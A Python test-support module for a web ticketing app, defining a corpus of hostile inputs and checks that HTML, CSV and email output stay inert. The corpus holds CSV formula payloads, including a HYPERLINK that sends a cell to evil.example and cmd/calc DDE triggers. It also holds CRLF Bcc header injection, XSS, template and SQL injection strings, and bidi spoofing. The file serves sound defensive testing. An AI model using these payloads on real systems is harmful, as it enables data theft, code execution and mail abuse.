"""Hostile text, and the checks every place it comes out must pass (issue 15).

One corpus for every channel: the API and the forms today, the subjects and bodies of incoming
mail when that channel lands (`for name, text in CORPUS.items(): ...`). The checks take what
came out (HTML, CSV, a message, JSON) and fail with what went wrong:

- `assert_html_inert(html, text)`: the text is escaped (no tag, attribute or script of its own),
  no direction control acts on the page;
- `assert_csv_inert(content)`: no cell a spreadsheet would run as a formula;
- `assert_mail_inert(message, to=...)`: the headers a message should have and no other, each on
  one line, the recipients unchanged, the subject decodes to one line;
- `expected_line(text)` / `expected_text(text)`: what a one-line or a multi-line field keeps
  (None when it must refuse), so "returned exactly as stored" can be checked.
"""

from __future__ import annotations

import csv
import io
import re
from email import message_from_bytes, policy
from email.message import EmailMessage as ParsedMessage
from html.parser import HTMLParser

CRLF_BCC = "x\r\nBcc: victim@example.com"

CORPUS: dict[str, str] = {
    # CSV injection (OWASP): formula triggers, with the issue's own examples.
    "formula_hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "formula_account": "=Prospect Formula Co",
    "formula_plus": "+1+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_cr": "\r=1+1",
    # Header injection: line breaks that would add a Bcc, and other line separators.
    "crlf_bcc": CRLF_BCC,
    "lf_bcc": "x\nBcc: victim@example.com",
    "vt_ff_bcc": "x\x0bCc: victim@example.com\x0cTo: victim@example.com",
    "unicode_line_separators": "x\u2028Bcc: victim@example.com\u2029\x85next",
    "encoded_word": "=?utf-8?q?x=0D=0ABcc=3A_victim=40example=2Ecom?=",
    # Direction and invisible characters.
    "bidi_override": "invoice\u202egnp.exe",
    "bidi_isolates": "\u2067admin\u2069 \u202a+\u202c\u202b-\u202c",
    "zero_width": "sam\u200b\u2060\ufeff\u00ad",
    "hangul_filler": "\u3164",
    "nul": "nul\x00byte",
    "c0_c1_controls": "bell\x07\x1b[31mred\x9bx\x7f",
    # Size, markup, SQL, scripts of every kind.
    "ten_thousand": "A" * 10_000,
    "html_script": '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "html_attribute": "\"><svg onload=alert(1)> ' onmouseover=alert(2) x='",
    "template_syntax": "{{ request.user.password }} {% debug %} ${7*7}",
    "sql": "'; DROP TABLE triage_ticket; --",
    "sql_union": "' OR '1'='1' UNION SELECT password FROM auth_user --",
    # A ZWJ family, a mathematical letter, the flag of Scotland (a black flag and tag letters).
    "emoji_astral": "🔥 Deploy failed 👨\u200d👩\u200d👧 𝕏 "
    "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
    "combining_flood": "Z" + "\u0336\u0334\u0335\u0337\u0338" * 12 + "algo",
    "right_to_left": "مرحبا بالعالم: الخادم لا يستجيب",
    "quotes": 'O\'Brien "quoted" `tick` <angle> & ampersand',
}

# Strings a page should show as they are, each with something worth seeing on a screenshot.
VISIBLE = ("html_script", "html_attribute", "sql", "emoji_astral", "right_to_left", "quotes")

# Characters no header value may hold, as a reader decodes it: controls and line separators.
_HEADER_FAULTS = re.compile("[\x00-\x08\x0a-\x1f\x7f-\x9f\u2028\u2029]")


# What no page may show and no header may hold, whatever the product's own rules say.
DIRECTION_CONTROLS = frozenset("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
INVISIBLE = frozenset("\u200b\u2060\ufeff\x00\x07\x1b")


def storable(text: str, size: int | None = None) -> str:
    """Return text as a row can already hold it (stored before the input rules, or by another
    system): PostgreSQL keeps no NUL, and a column no more than its size."""
    text = text.replace("\x00", "")
    return text[:size] if size else text


def expected_line(text: str, max_length: int = 200) -> str | None:
    """Return what a one-line field keeps of `text`, or None when it must refuse it."""
    from shared import text as rules

    kept = text.strip()
    if not kept:
        return None
    return None if rules.line_problem(kept, max_length=max_length) else kept


def expected_text(text: str, max_length: int = 20_000) -> str | None:
    """Return what a multi-line field keeps of `text`, or None when it must refuse it."""
    from shared import text as rules

    kept = rules.scrub_text(text).strip()
    if not kept or len(kept) > max_length:
        return None
    return kept


# --- HTML ---------------------------------------------------------------------------------------

# Tags no page of ours writes; a page holding one got it from someone's text.
FOREIGN_TAGS = {"svg", "img", "iframe", "object", "embed", "math", "base"}


class _Page(HTMLParser):
    """Collect a page's start tags (with attributes) and its text, as a browser parses them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data):
        self.text.append(data)


def parse_page(html: str) -> _Page:
    page = _Page()
    page.feed(html)
    page.close()
    return page


def assert_html_inert(html: str, shown: str = "", *, controls: bool = True) -> None:
    """Fail when a page lets text act: a tag or attribute that is not the page's own, an inline
    script, a javascript: or data: link, a direction control or invisible character; with
    `shown`, also when that text (as the page should show it) is not in the page's text.

    `controls=False` for a page that hands someone's input back to them in a form field (a
    search box, a form with errors): that text is theirs, as typed, inside the field.
    """
    page = parse_page(html)
    for tag, attrs in page.tags:
        assert tag not in FOREIGN_TAGS, f"a <{tag}> on the page: {attrs}"
        assert not (tag == "meta" and "http-equiv" in attrs), f"a <meta http-equiv>: {attrs}"
        handlers = [name for name in attrs if name.startswith("on")]
        assert not handlers, f"an event handler on <{tag}>: {handlers}"
        if tag == "script":
            assert "src" in attrs or attrs.get("type") == "application/json", "an inline script"
        for name in ("href", "src", "action", "formaction"):
            target = attrs.get(name, "").strip().lower()
            if tag == "link" and attrs.get("rel") == "icon":
                continue  # the page's own empty favicon, data:,
            assert not target.startswith(("javascript:", "data:", "vbscript:")), (tag, attrs)
    text = "".join(page.text)
    for ch in sorted(DIRECTION_CONTROLS | INVISIBLE) if controls else ():
        assert ch not in html, f"U+{ord(ch):04X} reached the page"
    if shown:
        assert shown in text, f"{shown[:60]!r} is not shown on the page as text"


# --- CSV ----------------------------------------------------------------------------------------

_NUMBER = re.compile(r"-?\d+(\.\d+)?")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_rows(content: bytes | str) -> list[list[str]]:
    text = content.decode() if isinstance(content, bytes) else content
    return list(csv.reader(io.StringIO(text)))


def assert_csv_inert(content: bytes | str) -> list[list[str]]:
    """Fail when a cell would run as a formula in a spreadsheet; return the rows."""
    rows = csv_rows(content)
    for row in rows:
        for cell in row:
            if _NUMBER.fullmatch(cell):
                continue  # numbers stay numbers
            assert not cell.startswith(FORMULA_STARTS), f"a formula cell: {cell[:60]!r}"
    return rows


# --- Mail ---------------------------------------------------------------------------------------

MESSAGE_HEADERS = {
    "content-type",
    "mime-version",
    "content-transfer-encoding",
    "subject",
    "from",
    "to",
    "date",
    "message-id",
    # A ticket's thread (issue 13): replies and notices answer the customer's message.
    "in-reply-to",
    "references",
    "auto-submitted",
}


def parse_message(raw: bytes) -> ParsedMessage:
    return message_from_bytes(raw, policy=policy.default)


def assert_mail_inert(
    raw: bytes, *, to: list[str], envelope: list[str] | None = None, allowed=MESSAGE_HEADERS
) -> ParsedMessage:
    """Fail when a message as sent has a header it should not (Bcc, Cc, a second To), a header
    line that breaks, or recipients other than `to`; return the parsed message."""
    message = parse_message(raw)
    names = [name.lower() for name in message]
    assert set(names) <= set(allowed), f"unexpected headers: {set(names) - set(allowed)}"
    assert len(names) == len(set(names)), f"a header appears twice: {names}"
    head = raw.split(b"\n\n", 1)[0].split(b"\r\n\r\n", 1)[0]
    for line in head.replace(b"\r\n", b"\n").split(b"\n"):
        assert len(line) <= 998, "a header line longer than RFC 5322 allows"
        assert not line.startswith(b"Bcc") and not line.startswith(b"Cc"), line
    for name in names:
        value = str(message[name])
        assert not _HEADER_FAULTS.search(value), f"{name} holds a control character: {value!r}"
    got = sorted(addr.addr_spec for addr in message["to"].addresses)
    assert got == sorted(to), f"recipients changed: {got} != {sorted(to)}"
    if envelope is not None:
        assert sorted(envelope) == sorted(to), f"envelope recipients: {envelope}"
    subject = str(message["subject"])
    assert "\n" not in subject and "\r" not in subject, subject
    return message


class SmtpSink:
    """A real SMTP server on 127.0.0.1 (aiosmtpd) that keeps what it receives.

    `with SmtpSink() as sink: ...` then `sink.received`: (envelope recipients, raw bytes) per
    message, exactly as a mail server got them.
    """

    def __init__(self) -> None:
        self.received: list[tuple[list[str], bytes]] = []

    async def handle_DATA(self, server, session, envelope):  # noqa: N802 - aiosmtpd's hook name
        self.received.append((list(envelope.rcpt_tos), bytes(envelope.original_content)))
        return "250 Message accepted"

    def __enter__(self) -> SmtpSink:
        import socket

        from aiosmtpd.controller import Controller

        with socket.socket() as probe:
            probe.bind(("127.0.0.1", 0))
            self.port = probe.getsockname()[1]
        self._controller = Controller(self, hostname="127.0.0.1", port=self.port)
        self._controller.start()
        return self

    def __exit__(self, *exc) -> None:
        self._controller.stop()
